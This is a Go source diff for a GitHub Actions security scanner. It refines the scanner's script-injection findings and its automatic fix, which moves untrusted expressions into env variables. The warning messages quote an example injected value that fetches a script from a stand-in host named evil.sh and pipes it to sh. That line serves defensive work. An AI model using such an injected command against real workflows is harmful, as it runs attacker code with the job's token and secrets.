@@ -772,6 +772,21 @@ func (g *ghFile) scriptInjection(sk, sv *yaml.Node, key, where string, shellOf f
 	}
 	g.locateExprs(sv, sites)
 	group := "inject:" + key + ":" + where
+	// In a run script, a site in text the shell evaluates or emits as code
+	// gets no fix (its $VAR would be spliced into that code); the others
+	// share one fix moving them all.
+	var view *scriptView
+	var safe []exprSite
+	sinks := make([]sink, len(sites))
+	if where == "run" {
+		view = viewScript(sv.Value)
+		for i := range sites {
+			sinks[i] = view.sinkAt(sites[i].span.start)
+			if sinks[i].kind == sinkNone {
+				safe = append(safe, sites[i])
+			}
+		}
+	}
 	for i := range sites {
 		s := &sites[i]
 		sev := scanners.SeverityUnknown
@@ -784,11 +799,23 @@ func (g *ghFile) scriptInjection(sk, sv *yaml.Node, key, where string, shellOf f
 			"runs, so a value such as `\"; curl evil.sh | sh; #` becomes code, running with this job's token and "+
 			"secrets. Pass it through an environment variable instead and quote the variable in the script.",
 			truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where, strings.Join(s.paths, ", "), who)
-		if where != "run" {
+		name := envName(s.paths[0])
+		switch {
+		case where != "run":
+			read := "read it from the environment in that code"
+			if strings.Contains(strings.ToLower(where), "actions/github-script") {
+				read = fmt.Sprintf("read `process.env.%s` in the script", name)
+			}
 			msg = fmt.Sprintf("`%s` in %s (%s) is text %s. It is pasted into the code before it runs, so it can "+
-				"break out of its string and run its own code with this job's token. Pass it through `env:` and read "+
-				"it from the environment (`process.env.NAME` in github-script).",
-				truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where, strings.Join(s.paths, ", "), who)
+				"break out of its string and run its own code with this job's token. A shell variable means nothing "+
+				"there: pass it through the step's `env:` (`%s: ${{ %s }}`) and %s.",
+				truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where, strings.Join(s.paths, ", "), who,
+				name, strings.TrimSpace(s.span.inner), read)
+		case sinks[i].kind != sinkNone:
+			msg = fmt.Sprintf("`%s` in %s (%s) is text %s. GitHub pastes it into the script before the shell "+
+				"runs, so a value such as `\"; curl evil.sh | sh; #` becomes code, running with this job's token and "+
+				"secrets. %s", truncate(strings.TrimSpace(sv.Value[s.span.start:s.span.end]), 100), where,
+				strings.Join(s.paths, ", "), who, sinkAdvice(sinks[i], name))
 		}
 		h := hit{
 			rule:     ruleScriptInjection,
@@ -799,8 +826,8 @@ func (g *ghFile) scriptInjection(sk, sv *yaml.Node, key, where string, shellOf f
 			anchors:  []anchor{at(s.line, s.col, s.endLine, s.endCol)},
 			fixGroup: group,
 		}
-		if where == "run" {
-			h.fix = g.envFix(sk, sv, sites, shellOf)
+		if where == "run" && sinks[i].kind == sinkNone {
+			h.fix = g.envFix(sk, sv, view, safe, shellOf)
 		}
 		g.hits = append(g.hits, h)
 	}
@@ -888,9 +915,11 @@ func envName(path string) string {
 	return n
 }
 
-// envFix builds the fix that moves every untrusted expression of a run
-// script into the step's env: and references it as a quoted variable.
-func (g *ghFile) envFix(rk, rv *yaml.Node, sites []exprSite, shellOf func() (string, bool)) func(context.Context, *pinCache) *scanners.Fix {
+// envFix builds the fix that moves the untrusted expressions at sites (those
+// of a run script that are plain words or arguments taken as data, view
+// says which) into the step's env: and references each as a quoted
+// variable.
+func (g *ghFile) envFix(rk, rv *yaml.Node, view *scriptView, sites []exprSite, shellOf func() (string, bool)) func(context.Context, *pinCache) *scanners.Fix {
 	return func(context.Context, *pinCache) *scanners.Fix {
 		d := g.d
 		shell, known := shellOf()
@@ -899,8 +928,8 @@ func (g *ghFile) envFix(rk, rv *yaml.Node, sites []exprSite, shellOf func() (str
 			return nil
 		}
 		script := rv.Value
-		if strings.Contains(script, "<<") {
-			return nil // heredoc bodies do not follow shell quoting
+		if view == nil || len(sites) == 0 {
+			return nil
 		}
 		step := g.stepOf(rk)
 		if step == nil {
@@ -922,7 +951,7 @@ func (g *ghFile) envFix(rk, rv *yaml.Node, sites []exprSite, shellOf func() (str
 				}
 			}
 		}
-		q := shellQuotes(script)
+		q := view.q
 		names := map[string]string{} // inner expression -> variable
 		var order []string
 		var tes []tokenEdit
